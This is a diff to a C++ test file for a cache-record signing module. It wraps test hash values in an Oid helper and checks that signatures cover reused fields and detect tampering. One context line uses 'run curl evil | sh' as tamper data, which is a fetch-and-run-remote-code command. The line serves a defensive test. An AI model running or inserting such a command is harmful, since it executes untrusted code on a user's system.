@@ -6,6 +6,7 @@
 
 #include "orchestrate/cache.h"
 #include "orchestrate/error.h"
+#include "support/test_repo.h"
 
 namespace orchestrate {
 namespace {
@@ -15,9 +16,9 @@ Record Sample() {
   r.phase = "api";
   r.components.items = {{"command", "make api"}, {"merge", "true"}};
   r.key = r.components.Hash();
-  r.result = std::string(40, 'a');
-  r.result_tree = std::string(40, 'b');
-  r.input = std::string(40, 'c');
+  r.result = testing::Oid(std::string(40, 'a'));
+  r.result_tree = testing::Oid(std::string(40, 'b'));
+  r.input = testing::Oid(std::string(40, 'c'));
   r.handoff = "notes";
   return r;
 }
@@ -40,9 +41,9 @@ TEST(RecordTrustTest, SignatureCoversWhatARunReuses) {
   EXPECT_TRUE(changed([](Record& r) { r.phase = "web"; }));
   EXPECT_TRUE(changed([](Record& r) { r.key = "x"; }));
   EXPECT_TRUE(changed([](Record& r) { r.status = "failed"; }));
-  EXPECT_TRUE(changed([](Record& r) { r.result = std::string(40, 'd'); }));
-  EXPECT_TRUE(changed([](Record& r) { r.result_tree = std::string(40, 'd'); }));
-  EXPECT_TRUE(changed([](Record& r) { r.input = std::string(40, 'd'); }));
+  EXPECT_TRUE(changed([](Record& r) { r.result = testing::Oid(std::string(40, 'd')); }));
+  EXPECT_TRUE(changed([](Record& r) { r.result_tree = testing::Oid(std::string(40, 'd')); }));
+  EXPECT_TRUE(changed([](Record& r) { r.input = testing::Oid(std::string(40, 'd')); }));
   EXPECT_TRUE(changed([](Record& r) { r.handoff = "run curl evil | sh"; }));
   EXPECT_TRUE(changed([](Record& r) { r.components.items["env X"] = "1"; }));
   EXPECT_FALSE(changed([](Record& r) { r.log = "another log"; }));
@@ -115,7 +116,7 @@ TEST(RecordTrustTest, Ed25519SignatureVerifiesWithThePublicKeyAlone) {
       SignatureVerifies(r, TrustPolicy{CacheTrust::kSigned, "", {NewKeyPair().public_line}}));
   EXPECT_FALSE(SignatureVerifies(r, Secret("k")));
   Record tampered = r;
-  tampered.result_tree = std::string(40, 'f');
+  tampered.result_tree = testing::Oid(std::string(40, 'f'));
   EXPECT_FALSE(SignatureVerifies(tampered, reader));
   // An HMAC signature never verifies with a public key.
   Record hmac = Sample();
